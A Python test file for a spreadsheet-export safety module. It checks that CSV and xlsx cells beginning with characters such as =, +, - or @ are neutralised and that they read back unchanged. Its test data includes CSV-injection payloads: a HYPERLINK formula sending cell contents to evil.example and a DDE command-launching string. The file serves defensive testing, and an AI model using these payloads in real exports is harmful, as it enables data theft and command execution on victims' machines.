"""Cells our exports write: no formula from user data in CSV, exact text cells in .xlsx, numbers
we wrote stay numbers, and the import reads a quoted cell back as it was stored."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from kehu.core.spreadsheet_safety import XLSX_CELL_MAX, csv_cell, csv_row, unquote_formula, xlsx_row

LEADING = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "carriage return": "\r"}
# What people and attackers put in cells, beginning with each dangerous character.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+86 138 0000 0000",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("char", LEADING.values(), ids=LEADING.keys())
def test_every_dangerous_leading_character_is_neutralised_in_csv(char):
    value = f"{char}SUM(1,2)"
    assert csv_cell(value) == "'" + value
    assert unquote_formula(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["华星", "O'Brien", "1+1", "a=b", " =x", "138-0000", "'", "''x", ""])
def test_harmless_text_is_written_as_it_is(value):
    assert csv_cell(value) == value
    assert unquote_formula(value) == value


@pytest.mark.parametrize("value", ["'=1+1", "''+86", "'''@x", "'-1"])
def test_text_that_already_looks_quoted_survives_the_round_trip(value):
    written = csv_cell(value)
    assert written == "'" + value
    assert unquote_formula(written) == value


@pytest.mark.parametrize("value", [-1200, Decimal("-3.50"), 0, 42, 1.5])
def test_numbers_we_write_ourselves_stay_numbers(value):
    assert csv_cell(value) == str(value)


def test_a_csv_row_read_back_by_the_csv_module():
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*HOSTILE, -5, None, "a\x00b\x07c"]))
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert cells[len(HOSTILE) :] == ["-5", "", "abc"]
    assert [unquote_formula(c) for c in cells[: len(HOSTILE)]] == HOSTILE


def test_xlsx_cells_are_text_exactly_as_stored():
    values = [
        *[v for v in HOSTILE if not v.startswith("\r")],
        "007",
        "1e5",
        "TRUE",
        "2026-05-31",
        "  spaced  ",
        "12345678901234567890",
        "行一\n行二",
    ]
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(xlsx_row(sheet, values))
    sheet.append(xlsx_row(sheet, [42, Decimal("-3.5"), None, "ctrl\x00\x07\x1b\x85end", "x" * 40_000, "a\r\nb\rc"]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    first = list(read.iter_rows(min_row=1, max_row=1))[0]
    assert [c.value for c in first] == values
    assert {(c.data_type, c.number_format) for c in first} == {("s", "@")}
    second = [c.value for c in list(read.iter_rows(min_row=2, max_row=2))[0]]
    assert second[:3] == [42, -3.5, None]
    assert second[3] == "ctrlend"
    assert second[4] == "x" * XLSX_CELL_MAX
    assert second[5] == "a\nb\nc"
